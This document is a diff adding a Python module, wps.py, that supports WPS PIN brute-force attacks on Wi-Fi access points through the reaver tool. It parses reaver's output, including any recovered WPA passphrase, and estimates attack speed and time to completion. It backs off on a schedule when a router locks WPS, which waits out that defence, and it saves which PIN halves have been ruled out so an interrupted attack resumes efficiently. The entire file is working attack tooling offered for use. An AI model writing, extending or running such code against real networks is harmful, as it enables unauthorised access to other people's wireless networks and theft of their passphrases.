@@ -0,0 +1,448 @@
+"""
+wps.py
+------
+Parsing and pacing of WPS PIN attacks.
+
+reaver reports what it is doing on stdout, one line at a time, with -vv:
+the PIN being tried, the M1-M8 messages exchanged with the access point,
+receive timeouts, AP rate limiting and its estimated progress through the
+11000 PINs of the WPS keyspace. ReaverParser turns those lines into
+WpsEvents as they arrive. WpsStats derives attempts/sec and an ETA from the
+events, and WpsBackoff decides how long to pause the attack when the AP
+locks WPS or stops answering.
+
+The AP checks the two halves of the PIN separately: a NACK after M4 rules
+out the first four digits, an M5 confirms them, and a NACK after M6 rules
+out the next three (the last digit is a checksum). WpsState keeps those
+results per BSSID, with the lockout history, and WpsCheckpoint stores it
+in one JSON file per BSSID, replaced atomically. An interrupted attack is
+resumed through a reaver session file listing the untried halves first,
+so no PIN half is tried twice.
+
+Functions and Classes:
+    WpsEvent: One parsed line of reaver output.
+    ReaverParser: Turns reaver output lines into WpsEvents.
+    WpsStats: Counters, attempts/sec and ETA of a WPS attack.
+    WpsBackoff: Pauses to take when the AP locks WPS or keeps timing out.
+    WpsState: PIN halves ruled out and lockouts of one AP.
+    WpsCheckpoint: WpsStates stored per BSSID across sessions.
+"""
+
+import os
+import re
+import json
+import time
+import logging
+from typing import Any, Dict, List, Optional, Set
+
+# First half (10^4 PINs) plus second half (10^3 PINs, the last digit is a
+# checksum) of the WPS PIN
+WPS_KEYSPACE = 11000
+FIRST_HALVES = 10000
+SECOND_HALVES = 1000
+
+# Key status of a reaver session file: brute-forcing the first or second half
+_KEY1_WIP = 0
+_KEY2_WIP = 1
+
+EVENT_PIN = "pin"
+EVENT_PROGRESS = "progress"
+EVENT_MESSAGE = "message"
+EVENT_TIMEOUT = "timeout"
+EVENT_FAILURE = "failure"
+EVENT_RATE_LIMIT = "rate_limit"
+EVENT_WPS_PIN = "wps_pin"
+EVENT_PSK = "psk"
+EVENT_NACK = "nack"
+
+_PATTERNS = [
+    (EVENT_PIN, re.compile(r"Trying pin \"?(\d{4,8})")),
+    (EVENT_PROGRESS, re.compile(r"(\d+(?:\.\d+)?)% complete")),
+    (EVENT_MESSAGE, re.compile(r"Received (M\d) message")),
+    (EVENT_NACK, re.compile(r"Received WSC NACK")),
+    (EVENT_TIMEOUT, re.compile(r"Receive timeout occurred|Timeout waiting")),
+    (EVENT_FAILURE, re.compile(r"(\d+) failed connections in a row")),
+    (EVENT_RATE_LIMIT, re.compile(r"rate limiting", re.IGNORECASE)),
+    (EVENT_WPS_PIN, re.compile(r"WPS PIN: '?(\d+)")),
+    (EVENT_PSK, re.compile(r"WPA PSK: '(.*)'")),
+]
+
+
+class WpsEvent:
+    """
+    One parsed line of reaver output.
+    Attributes:
+            kind (str): One of the EVENT_* constants.
+            value (str): The PIN, percentage, message (M1-M8), failure count,
+                    PSK, or for timeouts and NACKs the last message
+                    received; None for rate limiting.
+            pin (str): PIN being tried when the line was read, if known.
+            line (str): The line, without its line break.
+            repeat (bool): For PIN events, whether reaver is trying the
+                    previous PIN again (after a timeout or a NACK).
+    """
+
+    kind: str
+    value: Optional[str]
+    pin: Optional[str]
+    line: str
+    repeat: bool
+
+    def __init__(
+        self,
+        kind: str,
+        value: Optional[str],
+        pin: Optional[str],
+        line: str,
+        repeat: bool = False,
+    ) -> None:
+        self.kind = kind
+        self.value = value
+        self.pin = pin
+        self.line = line
+        self.repeat = repeat
+
+    def __repr__(self) -> str:
+        return f"<WpsEvent {self.kind} {self.value!r} pin={self.pin}>"
+
+
+class ReaverParser:
+    """
+    Turns reaver output lines into WpsEvents, one line at a time.
+    Attributes:
+            pin (str): PIN being tried, if any.
+            last_message (str): Last message received for that PIN, if any.
+    """
+
+    pin: Optional[str]
+    last_message: Optional[str]
+
+    def __init__(self) -> None:
+        self.pin = None
+        self.last_message = None
+
+    def feed(self, line: str) -> Optional[WpsEvent]:
+        """
+        Parses one line.
+        Returns:
+                WpsEvent: What the line reports, or None if nothing of interest.
+        """
+        line = line.rstrip("\r\n")
+        for kind, pattern in _PATTERNS:
+            match = pattern.search(line)
+            if match is None:
+                continue
+            value = match.group(1) if pattern.groups else None
+            if kind == EVENT_PIN:
+                repeat = value == self.pin
+                self.pin = value
+                self.last_message = None
+                return WpsEvent(kind, value, self.pin, line, repeat)
+            elif kind == EVENT_MESSAGE:
+                self.last_message = value
+            elif kind in (EVENT_TIMEOUT, EVENT_NACK):
+                value = self.last_message
+            return WpsEvent(kind, value, self.pin, line)
+        return None
+
+
+class WpsStats:
+    """
+    Counters of a WPS attack, updated from its events.
+    Attributes:
+            pins (int): Distinct PIN attempts started; reaver trying the
+                    same PIN again does not count.
+            timeouts (int): Receive timeouts.
+            failures (int): Reports of repeated failed connections.
+            rate_limits (int): Times the AP locked WPS.
+            progress (float): Fraction of the keyspace done, as reaver reports it.
+            paused (float): Seconds spent backing off.
+            elapsed (float): Wall-clock seconds since the attack started.
+    """
+
+    pins: int
+    timeouts: int
+    failures: int
+    rate_limits: int
+    progress: float
+    paused: float
+    elapsed: float
+
+    def __init__(self) -> None:
+        self.pins = 0
+        self.timeouts = 0
+        self.failures = 0
+        self.rate_limits = 0
+        self.progress = 0.0
+        self.paused = 0.0
+        self.elapsed = 0.0
+        self._started = time.monotonic()
+
+    def record(self, event: WpsEvent) -> None:
+        if event.kind == EVENT_PIN:
+            if not event.repeat:
+                self.pins += 1
+        elif event.kind == EVENT_PROGRESS:
+            self.progress = min(float(event.value) / 100, 1.0)
+        elif event.kind == EVENT_TIMEOUT:
+            self.timeouts += 1
+        elif event.kind == EVENT_FAILURE:
+            self.failures += 1
+        elif event.kind == EVENT_RATE_LIMIT:
+            self.rate_limits += 1
+        self.elapsed = time.monotonic() - self._started
+
+    @property
+    def attempts_per_sec(self) -> float:
+        return self.pins / self.elapsed if self.elapsed else 0.0
+
+    @property
+    def eta(self) -> Optional[float]:
+        """Seconds until the whole keyspace is tried at the current rate."""
+        rate = self.attempts_per_sec
+        if rate == 0:
+            return None
+        if self.progress:
+            remaining = (1 - self.progress) * WPS_KEYSPACE
+        else:
+            remaining = max(WPS_KEYSPACE - self.pins, 0)
+        return remaining / rate
+
+    def summary(self) -> str:
+        eta = self.eta
+        return (
+            f"{self.pins} PINs ({self.attempts_per_sec * 60:.1f}/min), "
+            f"{self.progress:.2%} done, ETA "
+            f"{'unknown' if eta is None else '%.0fs' % eta}, "
+            f"{self.timeouts} timeouts, {self.rate_limits} lockouts, "
+            f"{self.paused:.0f}s backed off"
+        )
+
+
+class WpsBackoff:
+    """
+    Decides how long to pause a WPS attack after an event. Each lockout in
+    a row doubles the pause, up to "max_delay"; the streak ends when the
+    AP answers with an M message again. "timeout_limit" timeouts or failure
+    reports in a row cause a pause of "timeout_delay".
+    Attributes:
+            base_delay (float): Pause after a first lockout, in seconds.
+            max_delay (float): Longest pause after lockouts.
+            timeout_limit (int): Timeouts in a row that cause a pause.
+            timeout_delay (float): Pause after too many timeouts.
+            lockouts (int): Lockouts in the current streak.
+            timeouts (int): Timeouts and failures since the last pause or answer.
+    """
+
+    base_delay: float
+    max_delay: float
+    timeout_limit: int
+    timeout_delay: float
+    lockouts: int
+    timeouts: int
+
+    def __init__(
+        self,
+        base_delay: float = 60.0,
+        max_delay: float = 900.0,
+        timeout_limit: int = 5,
+        timeout_delay: float = 30.0,
+    ) -> None:
+        self.base_delay = base_delay
+        self.max_delay = max_delay
+        self.timeout_limit = timeout_limit
+        self.timeout_delay = timeout_delay
+        self.lockouts = 0
+        self.timeouts = 0
+
+    def delay(self, event: WpsEvent) -> float:
+        """
+        Returns:
+                float: Seconds to pause after "event", 0 to go on.
+        """
+        if event.kind == EVENT_RATE_LIMIT:
+            delay = min(self.base_delay * 2**self.lockouts, self.max_delay)
+            self.lockouts += 1
+            self.timeouts = 0
+            return delay
+        if event.kind in (EVENT_TIMEOUT, EVENT_FAILURE):
+            self.timeouts += 1
+            if self.timeouts >= self.timeout_limit:
+                self.timeouts = 0
+                return self.timeout_delay
+        elif event.kind == EVENT_MESSAGE:
+            self.lockouts = 0
+            self.timeouts = 0
+        return 0.0
+
+
+class WpsState:
+    """
+    Progress of the PIN attack on one AP, across sessions.
+    Attributes:
+            bssid (str): Upper-case BSSID.
+            first_half (str): The confirmed first four digits, if known.
+            tried_first (set): First halves the AP rejected.
+            tried_second (set): Second halves (three digits) the AP rejected
+                    with the confirmed first half.
+            pins (int): Distinct PIN attempts started.
+            elapsed (float): Seconds spent attacking.
+            lockouts (list): Epoch times the AP locked WPS.
+    """
+
+    bssid: str
+    first_half: Optional[str]
+    tried_first: Set[str]
+    tried_second: Set[str]
+    pins: int
+    elapsed: float
+    lockouts: List[float]
+
+    def __init__(self, bssid: str) -> None:
+        self.bssid = bssid.upper()
+        self.first_half = None
+        self.tried_first = set()
+        self.tried_second = set()
+        self.pins = 0
+        self.elapsed = 0.0
+        self.lockouts = []
+
+    def __repr__(self) -> str:
+        return f"<WpsState {self.bssid} {self.position}/{WPS_KEYSPACE}>"
+
+    @property
+    def position(self) -> int:
+        """Number of PINs of the keyspace ruled out."""
+        if self.first_half is None:
+            return len(self.tried_first)
+        return FIRST_HALVES + len(self.tried_second)
+
+    def record(self, event: WpsEvent) -> bool:
+        """
+        Updates the state from an event.
+        Returns:
+                bool: Whether anything worth saving changed.
+        """
+        pin = event.pin if event.pin is not None and len(event.pin) == 8 else None
+        if event.kind == EVENT_PIN:
+            if not event.repeat:
+                self.pins += 1
+        elif event.kind == EVENT_RATE_LIMIT:
+            self.lockouts.append(time.time())
+            return True
+        elif pin is None:
+            return False
+        elif event.kind == EVENT_MESSAGE and event.value == "M5":
+            if self.first_half != pin[:4]:
+                self.first_half = pin[:4]
+                self.tried_second = set()
+                return True
+        elif event.kind == EVENT_NACK and event.value == "M3":
+            self.tried_first.add(pin[:4])
+            return True
+        elif event.kind == EVENT_NACK and event.value == "M5":
+            if pin[:4] == self.first_half:
+                self.tried_second.add(pin[4:7])
+                return True
+        return False
+
+    def lockouts_since(self, when: float) -> int:
+        return sum(1 for t in self.lockouts if t >= when)
+
+    def session(self) -> str:
+        """
+        Returns:
+                str: A reaver session file (index of both halves, key status,
+                then every first and second half) that tries the halves not
+                ruled out first.
+        """
+        first = ["%04d" % i for i in range(FIRST_HALVES)]
+        second = ["%03d" % i for i in range(SECOND_HALVES)]
+        if self.first_half is not None:
+            first.remove(self.first_half)
+            first.insert(0, self.first_half)
+            status = _KEY2_WIP
+        else:
+            first.sort(key=lambda half: half in self.tried_first)
+            status = _KEY1_WIP
+        second.sort(key=lambda half: half in self.tried_second)
+        return "\n".join(["0", "0", str(status)] + first + second) + "\n"
+
+    def to_dict(self) -> Dict[str, Any]:
+        return {
+            "bssid": self.bssid,
+            "first_half": self.first_half,
+            "tried_first": sorted(self.tried_first),
+            "tried_second": sorted(self.tried_second),
+            "pins": self.pins,
+            "elapsed": self.elapsed,
+            "lockouts": self.lockouts,
+        }
+
+    @classmethod
+    def from_dict(cls, data: Dict[str, Any]) -> "WpsState":
+        state = cls(data["bssid"])
+        state.first_half = data.get("first_half")
+        state.tried_first = set(data.get("tried_first", ()))
+        state.tried_second = set(data.get("tried_second", ()))
+        state.pins = int(data.get("pins", 0))
+        state.elapsed = float(data.get("elapsed", 0.0))
+        state.lockouts = list(data.get("lockouts", ()))
+        return state
+
+
+class WpsCheckpoint:
+    """
+    WpsStates stored as one JSON file per BSSID in a directory. Files are
+    replaced atomically, so an interrupted write keeps the previous state.
+    Attributes:
+            directory (str): Where the state files live.
+    """
+
+    directory: str
+
+    def __init__(self, directory: str) -> None:
+        self.directory = directory
+        os.makedirs(directory, exist_ok=True)
+
+    def path(self, bssid: str, suffix: str = ".json") -> str:
+        return os.path.join(self.directory, bssid.upper().replace(":", "") + suffix)
+
+    def load(self, bssid: str) -> WpsState:
+        """The saved state of "bssid", or a fresh one."""
+        path = self.path(bssid)
+        try:
+            with open(path, "r") as f:
+                return WpsState.from_dict(json.load(f))
+        except FileNotFoundError:
+            pass
+        except (OSError, ValueError, KeyError) as e:
+            logging.warning(f"[WpsCheckpoint] Ignoring unreadable {path}: {e}")
+        return WpsState(bssid)
+
+    def save(self, state: WpsState) -> None:
+        path = self.path(state.bssid)
+        tmp_path = path + ".tmp"
+        with open(tmp_path, "w") as f:
+            json.dump(state.to_dict(), f, indent=1, sort_keys=True)
+            f.flush()
+            os.fsync(f.fileno())
+        os.replace(tmp_path, path)
+
+    def write_session(self, state: WpsState) -> str:
+        """
+        Writes the reaver session file resuming "state".
+        Returns:
+                str: Its path, for reaver's -s option.
+        """
+        path = self.path(state.bssid, ".wpc")
+        with open(path, "w") as f:
+            f.write(state.session())
+        return path
+
+    def clear(self, bssid: str) -> None:
+        for suffix in (".json", ".wpc"):
+            try:
+                os.remove(self.path(bssid, suffix))
+            except FileNotFoundError:
+                pass